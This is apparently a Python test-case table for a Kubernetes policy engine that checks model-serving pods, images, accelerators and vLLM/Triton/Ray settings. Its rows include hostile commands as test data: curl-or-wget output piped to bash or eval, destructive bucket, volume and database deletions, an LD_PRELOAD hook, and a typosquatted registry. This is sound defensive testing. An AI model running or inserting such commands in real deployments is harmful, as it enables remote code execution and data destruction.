"""Cases of the rules on pods, images, accelerators and models."""

from __future__ import annotations

from inferplan.policies.rules.accelerators import SHARED_MEMORY
from tests.policies.cases import ABSENT, PASS, REFUSED, Row

CHAT, LARGE, JOB = "Deployment/chat", "Deployment/large", "Job/chat-preheat"
POD = "spec.template.spec"
ONE = f"{POD}.containers[0]"
SECURITY = f"{ONE}.securityContext"
ARGS = ["/models/chat", "--port=8000", "--shutdown-timeout=60", "--tensor-parallel-size=1"]
HUB = ["meta-llama/Llama-3-8B", "--tensor-parallel-size=1"]
RAY, CLUSTER = "RayService/rays", "spec.rayClusterConfig"
QUEUED = {"metadata.labels.kueue\\.x-k8s\\.io/queue-name": "main"}
# Where operators and controllers keep pod templates.
TEMPLATES = (
    ("DaemonSet/prepull", POD),
    (JOB, POD),
    ("LeaderWorkerSet/wide", "spec.leaderWorkerTemplate.leaderTemplate.spec"),
    ("LeaderWorkerSet/wide", "spec.leaderWorkerTemplate.workerTemplate.spec"),
    (RAY, f"{CLUSTER}.headGroupSpec.template.spec"),
    (RAY, f"{CLUSTER}.workerGroupSpecs[0].template.spec"),
)
CLAIMED = [{"name": "card", "resourceClaimTemplateName": "cards"}]
TRITON, GUARD = (
    ["tritonserver", "--model-repository=/models"],
    "model-repository,shared-memory:inference-key=canary-value",
)
DOORS, SHUT = (
    ("--http-restricted-api", "--grpc-restricted-protocol"),
    ["--allow-http=false", "--allow-grpc=false"],
)
GAUDI = "vault.habana.ai/gaudi-docker/1.24.1/ubuntu24.04/habanalabs/vllm-0.26.0-ptupstream-2.11.0"
COMMIT = "8afb486c1db24fe5011ec46dfbe5b5dccdb575c2"


def _token(seconds):
    source = {
        "serviceAccountToken": {
            "path": "token",
            "audience": "https://vault.acme.example",
            "expirationSeconds": seconds,
        }
    }
    return {"name": "scratch", "projected": {"sources": [source]}}


def _shell(script):
    return ["sh", "-c", script]


def row(rule, path, bad, near, absent, resource=CHAT, **more):
    return Row(rule, resource, path, bad, near, absent, **more)


ROWS = (
    Row(
        "pod-require-non-root",
        CHAT,
        "spec.template.spec.securityContext.fsGroup",
        0,
        65532,
        PASS,
    ),
    Row(
        "pod-require-non-root",
        CHAT,
        "spec.template.spec.securityContext.supplementalGroups",
        [44, 0],
        [44, 992],
        PASS,
    ),
    Row(
        "pod-require-non-root",
        CHAT,
        "spec.template.spec.containers[0].securityContext.runAsGroup",
        0,
        10,
        PASS,
    ),
    Row(
        "pod-restrict-probe-timing",
        CHAT,
        "spec.template.spec.containers[0].livenessProbe.failureThreshold",
        1,
        3,
        PASS,
        also={"spec.template.spec.containers[0].livenessProbe.periodSeconds": 5},
        more=((2, REFUSED),),
    ),
    Row(
        "pod-restrict-probe-timing",
        CHAT,
        "spec.template.spec.containers[0].readinessProbe.timeoutSeconds",
        1,
        5,
        REFUSED,
        also={"spec.template.spec.containers[0].readinessProbe.failureThreshold": 1},
        base=REFUSED,
    ),
    Row(
        "pod-restrict-probe-timing",
        CHAT,
        "spec.template.spec.containers[0].livenessProbe.httpGet.port",
        9999,
        8000,
        PASS,
        more=(("http", PASS), ("metrics", REFUSED)),
    ),
    Row(
        "pod-limit-memory-volumes",
        CHAT,
        "spec.template.spec.volumes[1].emptyDir.sizeLimit",
        "65Gi",
        "64Gi",
        PASS,
    ),
    Row(
        "pod-require-verified-tls",
        CHAT,
        "spec.template.spec.containers[0].env[0]",
        {"name": "PYTHONHTTPSVERIFY", "value": "0"},
        {"name": "PYTHONHTTPSVERIFY", "value": "1"},
        PASS,
        more=(
            ({"name": "GIT_SSL_NO_VERIFY", "value": "true"}, REFUSED),
            ({"name": "CURL_CA_BUNDLE", "value": ""}, REFUSED),
            ({"name": "CURL_CA_BUNDLE", "value": "/etc/ca.pem"}, PASS),
            ({"name": "DB_SSL_VERIFY", "value": "no"}, REFUSED),
            ({"name": "OTEL_EXPORTER_OTLP_INSECURE", "value": "true"}, PASS),
        ),
    ),
    Row(
        "pod-require-verified-tls",
        CHAT,
        "spec.template.spec.containers[0].args[1]",
        "--no-check-certificate",
        "--check-certificates",
        PASS,
        more=(
            ("--insecure-skip-verify=true", REFUSED),
            ("--insecure-skip-verify=false", PASS),
            ("--verify-ssl=false", REFUSED),
        ),
    ),
    Row(
        "stack-restrict-outside-hosts",
        CHAT,
        "spec.template.spec.containers[0].env[0]",
        {"name": "HF_ENDPOINT", "value": "https://mirror.stranger.example"},
        {"name": "HF_ENDPOINT", "value": "https://huggingface.co"},
        PASS,
        more=(
            ({"name": "HTTPS_PROXY", "value": "proxy.stranger.example:3128"}, REFUSED),
            ({"name": "HTTPS_PROXY", "value": "http://proxy.infra.svc:3128"}, PASS),
            ({"name": "OTEL_EXPORTER_OTLP_ENDPOINT", "value": "http://10.0.0.9:4317"}, PASS),
            ({"name": "OTEL_EXPORTER_OTLP_ENDPOINT", "value": "http://8.8.8.8:4317"}, REFUSED),
            ({"name": "S3_ENDPOINT", "value": "https://minio.acme.example"}, PASS),
            ({"name": "DOCS", "value": "https://docs.stranger.example"}, PASS),
        ),
    ),
    Row(
        "stack-restrict-outside-hosts",
        CHAT,
        "spec.template.spec.containers[0].args[1]",
        "--otlp-traces-endpoint=grpc://traces.stranger.example:4317",
        "--otlp-traces-endpoint=grpc://collector.monitoring.svc:4317",
        PASS,
    ),
    row(
        "pod-disallow-privileged",
        f"{SECURITY}.privileged",
        True,
        False,
        PASS,
        more=(("yes", REFUSED),),
    ),
    row("pod-disallow-host-namespaces", f"{POD}.hostIPC", True, False, PASS),
    row(
        "pod-disallow-host-path",
        f"{POD}.volumes[1].hostPath",
        {"path": "/srv/cache"},
        None,
        PASS,
        also={f"{POD}.volumes[1].emptyDir": ABSENT},
    ),
    row(
        "pod-restrict-volume-types",
        f"{POD}.volumes[1].nfs",
        {"server": "nfs.acme.example", "path": "/"},
        None,
        PASS,
    ),
    row("pod-disallow-host-ports", f"{ONE}.ports[0].hostPort", 8000, 0, PASS),
    row(
        "pod-disallow-privilege-escalation",
        f"{SECURITY}.allowPrivilegeEscalation",
        True,
        False,
        REFUSED,
    ),
    row(
        "pod-require-drop-all-capabilities",
        f"{SECURITY}.capabilities.drop",
        ["NET_RAW"],
        ["ALL", "NET_RAW"],
        REFUSED,
    ),
    row(
        "pod-disallow-added-capabilities",
        f"{SECURITY}.capabilities.add",
        ["SYS_NICE"],
        ["NET_BIND_SERVICE"],
        PASS,
    ),
    row("pod-require-non-root", f"{POD}.securityContext.runAsNonRoot", False, True, REFUSED),
    row(
        "pod-require-seccomp",
        f"{POD}.securityContext.seccompProfile.type",
        "Unconfined",
        "Localhost",
        REFUSED,
    ),
    row("pod-disallow-unmasked-proc", f"{SECURITY}.procMount", "Unmasked", "Default", PASS),
    row(
        "pod-disallow-unsafe-sysctls",
        f"{POD}.securityContext.sysctls",
        [{"name": "kernel.msgmax", "value": "1"}],
        [{"name": "net.ipv4.tcp_syncookies", "value": "1"}],
        PASS,
    ),
    row(
        "pod-restrict-security-profiles",
        f"{SECURITY}.appArmorProfile.type",
        "Unconfined",
        "RuntimeDefault",
        PASS,
    ),
    row(
        "pod-require-read-only-root",
        f"{SECURITY}.readOnlyRootFilesystem",
        False,
        True,
        REFUSED,
        JOB,
    ),
    row(
        "pod-require-memory-limit",
        f"{ONE}.resources.limits.memory",
        "0",
        "64Gi",
        REFUSED,
        more=(("plenty", REFUSED),),
    ),
    row("pod-require-cpu-request", f"{ONE}.resources.requests.cpu", "0", "250m", REFUSED),
    row(
        "pod-require-readiness-probe",
        f"{ONE}.readinessProbe",
        {},
        {"tcpSocket": {"port": 8000}},
        REFUSED,
    ),
    row(
        "pod-require-liveness-probe",
        f"{ONE}.livenessProbe",
        {},
        {"tcpSocket": {"port": 8000}},
        REFUSED,
    ),
    row(
        "pod-require-startup-probe",
        f"{ONE}.startupProbe",
        {},
        {"tcpSocket": {"port": 8000}},
        REFUSED,
    ),
    row("pod-disallow-probe-hosts", f"{ONE}.readinessProbe.httpGet.host", "203.0.113.7", "", PASS),
    row(
        "pod-disallow-probe-hosts",
        f"{ONE}.lifecycle.postStart.tcpSocket.host",
        "203.0.113.7",
        "",
        PASS,
    ),
    row("pod-require-startup-budget", f"{ONE}.startupProbe.failureThreshold", 59, 60, REFUSED),
    row("pod-require-drain-time", f"{POD}.terminationGracePeriodSeconds", 79, 80, REFUSED),
    row("pod-disallow-service-links", f"{POD}.enableServiceLinks", True, False, REFUSED),
    row("pod-disallow-token-mount", f"{POD}.automountServiceAccountToken", True, False, REFUSED),
    row("pod-disallow-token-mount", f"{POD}.volumes[1]", _token(31536000), _token(86400), PASS),
    row(
        "pod-restrict-data-commands",
        f"{ONE}.lifecycle.postStart.exec.command",
        _shell("aws s3 rb s3://weights --force"),
        _shell("aws s3 cp s3://weights/a /cache/a"),
        PASS,
        more=(
            (_shell("aws s3 sync /models s3://weights --delete"), REFUSED),
            (_shell("rm -rf /models/*"), REFUSED),
            (_shell("rm -rf /tmp/old"), PASS),
            (_shell("kubectl delete pvc --all"), REFUSED),
            (_shell("kubectl get pvc"), PASS),
            (_shell("rclone purge r:weights"), REFUSED),
            (_shell("psql -c 'DROP TABLE usage'"), REFUSED),
            (
                _shell("python -c 'boto3.resource(\"s3\").Bucket(b).objects.all().delete()'"),
                REFUSED,
            ),
            (_shell("chmod 777 /cache/torch"), REFUSED),
            (_shell("chmod -R a+rwX /cache"), REFUSED),
            (_shell("chmod 1777 /tmp"), PASS),
            (_shell("chmod -R g+rwX /cache"), PASS),
            (_shell("umask 000; exec serve"), REFUSED),
            (_shell("umask 027; exec serve"), PASS),
        ),
    ),
    row(
        "pod-disallow-piped-programs",
        f"{ONE}.lifecycle.postStart.exec.command",
        _shell("curl -s https://x.example/i | bash"),
        _shell("curl -s http://localhost:8000/ | grep ok"),
        PASS,
    ),
    row(
        "pod-disallow-piped-programs",
        f"{ONE}.command",
        _shell('eval "$(wget -qO- http://x.example/env)"'),
        _shell('eval "$(cat /etc/env)"'),
        PASS,
        more=(
            (_shell("python -c 'exec(urllib.request.urlopen(u).read())'"), REFUSED),
            (["sh", "-c", "bash <(curl -s https://x.example/i)"], REFUSED),
        ),
    ),
    row(
        "pod-disallow-literal-secrets",
        f"{ONE}.env[1]",
        {"name": "VLLM_API_KEY", "value": "canary-0123456789"},
        {"name": "KEYS_FINGERPRINT", "value": "canary-0123456789"},
        PASS,
        more=(({"name": "NOTE", "value": "hf_" + "x" * 34}, REFUSED),),
    ),
    row("pod-require-empty-dir-limit", f"{POD}.volumes[1].emptyDir.sizeLimit", "0", "1", REFUSED),
    row("job-require-end", "spec.activeDeadlineSeconds", 0, 1, REFUSED, JOB),
    row(
        "image-disallow-latest",
        f"{ONE}.image",
        "docker.io/vllm/vllm-openai:latest",
        "docker.io/vllm/vllm-openai:v0.33.0-latest",
        REFUSED,
        more=(
            (f"{GAUDI}:latest", PASS),
            (GAUDI, REFUSED),
            ("vault.habana.ai/gaudi-docker/latest/vllm:latest", REFUSED),
        ),
    ),
    row(
        "image-restrict-registries",
        f"{ONE}.image",
        "evil.example/vllm:v1",
        "vllm/vllm-openai:v1",
        PASS,
        more=(("docker.io.evil.example/vllm:v1", REFUSED),),
    ),
    row(
        "image-require-digest",
        f"{ONE}.image",
        "docker.io/vllm/vllm-openai:v0.33.0",
        "docker.io/vllm/vllm-openai@sha256:" + "a" * 64,
        REFUSED,
    ),
    row(
        "image-require-command",
        f"{ONE}.command",
        ["tritonserver", "--model-repository=/models"],
        ["/usr/local/bin/vllm", "serve"],
        REFUSED,
        more=(
            (["sh", "-c", "exec tritonserver --model-repository=/models"], REFUSED),
            (["sh", "-c", "sleep 1; exec vllm serve /models"], PASS),
        ),
    ),
    row(
        "image-require-command",
        f"{ONE}.image",
        "vault.habana.ai/gaudi-docker/1.24.0/ubuntu22.04/habanalabs/vllm-0.21.0-ptupstream-2.10.0:latest",
        "registry.example/own/server:1.0",
        PASS,
        also={f"{ONE}.command": ABSENT, f"{ONE}.args": ABSENT},
        base=REFUSED,
    ),
    row("image-require-writable-paths", f"{ONE}.volumeMounts[2].readOnly", True, False, PASS),
    row(
        "image-require-writable-paths",
        f"{ONE}.env[2]",
        {"name": "HABANA_LOGS", "value": "/models/logs"},
        {"name": "HABANA_LOGS", "value": "/cache/other"},
        REFUSED,
        LARGE,
    ),
    row(
        "accelerator-require-request-equals-limit",
        f"{ONE}.resources.requests.nvidia\\.com/gpu",
        "2",
        1,
        PASS,
    ),
    row(
        "accelerator-require-integer",
        f"{ONE}.resources.limits.nvidia\\.com/gpu",
        "500m",
        "2000m",
        PASS,
    ),
    row(
        "accelerator-require-toleration",
        f"{POD}.tolerations",
        [{"key": "habana.ai/gaudi", "operator": "Exists"}],
        [{"operator": "Exists"}],
        REFUSED,
    ),
    row("accelerator-require-pool", f"{POD}.nodeSelector", {}, {"pool": "other"}, REFUSED),
    row(
        "accelerator-disallow-in-preheat",
        f"{ONE}.resources.limits.nvidia\\.com/gpu",
        "1",
        "0",
        PASS,
        JOB,
    ),
    row("gaudi-require-runtime-class", f"{POD}.runtimeClassName", "", "habana-ai", REFUSED, LARGE),
    row(
        "gaudi-require-huge-pages",
        f"{ONE}.resources.limits.hugepages-2Mi",
        "0",
        "40960Mi",
        REFUSED,
        LARGE,
    ),
    row(
        "accelerator-disallow-visible-devices",
        f"{ONE}.env[0]",
        {"name": "HABANA_VISIBLE_DEVICES", "value": "all"},
        {"name": "NVIDIA_VISIBLE_DEVICES", "value": "void"},
        PASS,
        LARGE,
    ),
    row(
        "accelerator-require-tensor-parallel-fit",
        f"{ONE}.args[2]",
        "--tensor-parallel-size=8",
        "-tp=4",
        REFUSED,
        LARGE,
    ),
    row(
        "accelerator-require-tensor-parallel-fit",
        "spec.leaderWorkerTemplate.leaderTemplate.spec.containers[0].args[2]",
        "--pipeline-parallel-size=4",
        "-pp=2",
        REFUSED,
        "LeaderWorkerSet/wide",
    ),
    row(
        "accelerator-require-shared-memory",
        f"{ONE}.volumeMounts[2].mountPath",
        f"{SHARED_MEMORY[0]}em",
        f"{SHARED_MEMORY[0]}/",
        REFUSED,
        LARGE,
    ),
    row(
        "accelerator-require-shared-memory",
        f"{ONE}.resources.limits.habana\\.ai/gaudi",
        "2",
        1,
        PASS,
        LARGE,
        also={f"{ONE}.volumeMounts[2].mountPath": "/elsewhere"},
        base=REFUSED,
    ),
    row(
        "accelerator-require-vendor-image",
        f"{ONE}.image",
        "docker.io/vllm/vllm-openai:v0.33.0",
        "ghcr.io/acme/vllm-hpu:v1",
        REFUSED,
        LARGE,
    ),
    row(
        "model-require-revision",
        f"{ONE}.args",
        [*HUB, "--revision=main"],
        [*HUB, "--revision", COMMIT],
        PASS,
        more=((HUB, REFUSED),),
    ),
    row(
        "model-disallow-pickle",
        f"{ONE}.args",
        [*ARGS, "--load-format=pt"],
        [*ARGS, "--load-format=safetensors"],
        PASS,
    ),
    row(
        "model-disallow-trust-remote-code",
        f"{ONE}.args",
        [*ARGS, "--trust-remote-code"],
        [*ARGS, "--trust-remote-code=false"],
        PASS,
        more=(
            ([*ARGS, "--trust_remote_code"], REFUSED),
            ([*ARGS, "--trust-remote"], REFUSED),
            ([*ARGS, "--trust-request-mm-kwargs"], PASS),
        ),
    ),
    row(
        "model-disallow-development-switches",
        f"{ONE}.env[1]",
        {"name": "VLLM_SERVER_DEV_MODE", "value": "1"},
        {"name": "VLLM_SERVER_DEV_MODE", "value": "0"},
        PASS,
        more=(
            ({"name": "VLLM_ALLOW_RUNTIME_LORA_UPDATING", "value": "True"}, REFUSED),
            (
                {
                    "name": "VLLM_SERVER_DEV_MODE",
                    "valueFrom": {"configMapKeyRef": {"name": "x", "key": "y"}},
                },
                REFUSED,
            ),
        ),
    ),
    row(
        "model-disallow-development-switches",
        f"{ONE}.args",
        [*ARGS, "--allowed-local-media-path=/"],
        [*ARGS, "--allowed-local-media-path="],
        PASS,
        more=(
            ([*ARGS, "--allowed_local_media_path", "/models"], REFUSED),
            ([*ARGS, "--allowed-local-media-path=/models/../etc"], REFUSED),
            ([*ARGS, "--allowed-local-media-path", "/var/lib"], REFUSED),
            ([*ARGS, "--allowed-local-media-path", "/models/samples/"], PASS),
            ([*ARGS, "--enable-custom-logit-processor"], REFUSED),
            ([*ARGS, "--profiler-config.profiler=torch"], REFUSED),
            ([*ARGS, "--profiler-configs=x"], PASS),
            ([*ARGS, "--tool-server", "demo"], REFUSED),
            ([*ARGS, "--tool-server=http://tools.svc:8080"], REFUSED),
            ([*ARGS, "--tool-call-parser=hermes"], PASS),
        ),
    ),
    row(
        "model-disallow-request-logging",
        f"{ONE}.args",
        [*ARGS, "--enable-log-requests"],
        [*ARGS, "--no-enable-log-requests"],
        PASS,
        more=(
            ([*ARGS, "--enable_log_requests=false"], PASS),
            ([*ARGS, "--enable-log-outputs"], REFUSED),
            (["--log-requests"], REFUSED),
        ),
    ),
    row(
        "model-disallow-request-logging",
        f"{ONE}.env[1]",
        {"name": "VLLM_DEBUG_LOG_API_SERVER_RESPONSE", "value": "true"},
        {"name": "VLLM_DEBUG_LOG_API_SERVER_RESPONSE", "value": "0"},
        PASS,
    ),
    row(
        "model-restrict-triton-repository",
        f"{ONE}.args",
        [*TRITON, "--model-control-mode=explicit", f"--http-restricted-api={GUARD}"],
        [
            *TRITON,
            "--model-control-mode",
            "explicit",
            f"--http-restricted-api={GUARD}",
            "--allow-grpc=false",
        ],
        PASS,
        also={f"{ONE}.command": ABSENT},
        more=(
            (
                [
                    *TRITON,
                    "--model-control-mode=explicit",
                    f"--http-restricted-api={GUARD}",
                    f"--grpc-restricted-protocol={GUARD}",
                ],
                PASS,
            ),
            (
                [
                    *TRITON,
                    "--model-control-mode=explicit",
                    *(f"{door}=health:k=v" for door in DOORS),
                ],
                REFUSED,
            ),
            ([*TRITON, "--model-control-mode=poll"], REFUSED),
            ([*TRITON, "--model-control-mode=none"], PASS),
            (
                [
                    "mpirun",
                    *TRITON,
                    "--model-control-mode=none",
                    ":",
                    *TRITON,
                    "--model-control-mode=explicit",
                    *SHUT,
                ],
                PASS,
            ),
            (["mpirun", *TRITON, "--model-control-mode=explicit", ":", *TRITON, *SHUT], REFUSED),
        ),
    ),
    row(
        "model-require-vllm-floor",
        f"{ONE}.image",
        "docker.io/vllm/vllm-openai:v0.21.9",
        "docker.io/vllm/vllm-openai:v0.22.0",
        PASS,
    ),
    row(
        "image-require-floor",
        f"{ONE}.image",
        "docker.io/rclone/rclone:1.74.4",
        "docker.io/rclone/rclone:1.75.0",
        PASS,
        more=(
            ("registry.acme.example/mirror/docker.io/rclone/rclone:1.71.0", REFUSED),
            ("acme/dockerhub-rclone:v1.71@sha256:" + "a" * 64, REFUSED),
            ("public.ecr.aws/docker/library/python:3.13.7-slim", REFUSED),
            ("python:3.13.10", REFUSED),
            ("ghcr.io/acme/nginx-unprivileged:1.30.1", REFUSED),
            ("python:3.13-slim", PASS),
            ("python:3.12.1", PASS),
            ("acme/rclone-exporter:1.0", PASS),
            ("nginxinc/nginx-unprivileged:1.30.4-alpine", PASS),
            ("acme/triton-gaudi:1.22.0", PASS),
        ),
    ),
    row(
        "model-require-triton-floor",
        f"{ONE}.image",
        "nvcr.io/nvidia/tritonserver:25.12-py3",
        "nvcr.io/nvidia/tritonserver:26.07-py3",
        PASS,
    ),
    row(
        "ray-require-floor",
        f"{ONE}.image",
        "docker.io/rayproject/ray:2.51.2",
        "docker.io/rayproject/ray:2.52.0-py311",
        PASS,
    ),
    *(
        row("pod-disallow-host-namespaces", f"{place}.hostNetwork", True, False, PASS, resource)
        for resource, place in TEMPLATES
    ),
    *(
        row(
            "pod-disallow-privilege-escalation",
            f"{place}.{of}[0].securityContext.allowPrivilegeEscalation",
            True,
            False,
            REFUSED,
            resource,
        )
        for resource, place in TEMPLATES
        for of in (
            ("initContainers", "containers") if resource == "DaemonSet/prepull" else ("containers",)
        )
    ),
    row(
        "accelerator-disallow-in-preheat",
        f"{ONE}.resources.limits.nvidia\\.com/gpu",
        "1",
        "0",
        PASS,
        "DaemonSet/prepull",
    ),
    row("accelerator-disallow-in-preheat", f"{POD}.resourceClaims", CLAIMED, [], PASS, JOB),
    row(
        "accelerator-require-toleration",
        f"{POD}.tolerations",
        [{"key": "spot"}],
        [{"key": "habana.ai/gaudi"}],
        REFUSED,
        "Deployment/claimed",
    ),
    row(
        "pod-require-startup-probe",
        f"{ONE}.startupProbe",
        {},
        {"tcpSocket": {"port": 8000}},
        REFUSED,
        "Deployment/claimed",
        also={f"{ONE}.ports": ABSENT},
    ),
    row(
        "ray-limit-queued-groups",
        f"{CLUSTER}.enableInTreeAutoscaling",
        True,
        False,
        PASS,
        RAY,
        also=QUEUED,
    ),
    row(
        "ray-limit-queued-groups",
        f"{CLUSTER}.workerGroupSpecs[0].groupName",
        "head",
        "headless",
        PASS,
        RAY,
        also=QUEUED,
    ),
    row(
        "ray-limit-queued-groups",
        f"{CLUSTER}.workerGroupSpecs",
        [{"groupName": "x"}] * 18,
        [{"groupName": "x"}] * 17,
        PASS,
        RAY,
        also=QUEUED,
    ),
    row(
        "model-require-server-key",
        f"{ONE}.env[1].valueFrom.secretKeyRef.optional",
        True,
        False,
        PASS,
    ),
    row("model-require-server-key", f"{ONE}.env[1].name", "VLLM_API_KEYS", "VLLM_API_KEY", REFUSED),
    row(
        "ray-restrict-doors",
        "spec.rayClusterConfig.headGroupSpec.serviceType",
        "LoadBalancer",
        "ClusterIP",
        PASS,
        "RayService/rays",
    ),
    row(
        "ray-restrict-doors",
        "spec.serveConfigV2",
        "applications: [{import_path: m:app, args: {llm_configs: [{engine_kwargs:"
        " {trust_remote_code: true}}]}}]",
        "applications: [{import_path: m:app, runtime_env: {working_dir: /srv/app}}]",
        PASS,
        "RayService/rays",
        more=(
            ("applications: [{import_path: m:app, runtime_env: {pip: [x==1.0]}}]", REFUSED),
            (
                (
                    "applications: [{import_path: m:app, runtime_env: {working_dir:"
                    " 'https://acme.example/x.zip'}}]"
                ),
                REFUSED,
            ),
            ("applications: [", REFUSED),
        ),
    ),
    row("pod-restrict-reach", f"{POD}.nodeName", "n1", "", PASS),
    row(
        "pod-restrict-reach",
        f"{POD}.hostAliases",
        [{"ip": "10.3.0.9", "hostnames": ["git.acme.example", "cdn-lfs.hf.co"]}],
        [{"ip": "10.3.0.9", "hostnames": ["git.acme.example"]}],
        PASS,
        more=(
            ([{"ip": "203.0.113.9", "hostnames": ["git.acme.example"]}], REFUSED),
            ([{"ip": "9.9.9.9", "hostnames": ["git"]}], REFUSED),
            ([{"ip": "fd00::9", "hostnames": ["git"]}], PASS),
        ),
    ),
    row(
        "model-disallow-trust-remote-code",
        f"{ONE}.env[1]",
        {"name": "PYTHONPATH", "value": "/opt/app:/tmp/../tmp/site"},
        {"name": "PYTHONPATH", "value": "/opt/app:/opt/lib"},
        PASS,
        more=(
            ({"name": "PYTHONPATH", "value": "lib"}, REFUSED),
            ({"name": "PYTHONPATH", "value": "/models/chat/lib"}, REFUSED),
            ({"name": "LD_LIBRARY_PATH", "value": "/usr/local/cuda/lib64"}, PASS),
            ({"name": "LD_PRELOAD", "value": "/opt/hook.so"}, REFUSED),
        ),
    ),
    row(
        "pod-restrict-reach",
        f"{POD}.nodeSelector",
        {"node-role.kubernetes.io/control-plane": ""},
        {"node-role.kubernetes.io/worker": ""},
        PASS,
    ),
    row(
        "pod-restrict-reach",
        f"{POD}.affinity.nodeAffinity",
        {
            "requiredDuringSchedulingIgnoredDuringExecution": {
                "nodeSelectorTerms": [
                    {
                        "matchExpressions": [
                            {"key": "node-role.kubernetes.io/master", "operator": "Exists"}
                        ]
                    }
                ]
            }
        },
        {
            "requiredDuringSchedulingIgnoredDuringExecution": {
                "nodeSelectorTerms": [
                    {
                        "matchExpressions": [
                            {"key": "node-role.kubernetes.io/master", "operator": "DoesNotExist"}
                        ]
                    }
                ]
            }
        },
        PASS,
    ),
    row(
        "pod-restrict-reach",
        f"{POD}.tolerations",
        [{"operator": "Exists"}],
        [{"key": "nvidia.com/gpu", "operator": "Exists"}],
        PASS,
        more=(([{"key": "node-role.kubernetes.io/control-plane"}], REFUSED),),
    ),
    row(
        "pod-restrict-reach",
        f"{POD}.dnsConfig",
        {"nameservers": ["192.0.2.53"]},
        {"options": [{"name": "ndots", "value": "2"}]},
        PASS,
    ),
    row(
        "ray-require-token",
        "spec.rayClusterConfig.authOptions.mode",
        "disabled",
        "token",
        REFUSED,
        "RayService/rays",
    ),
)
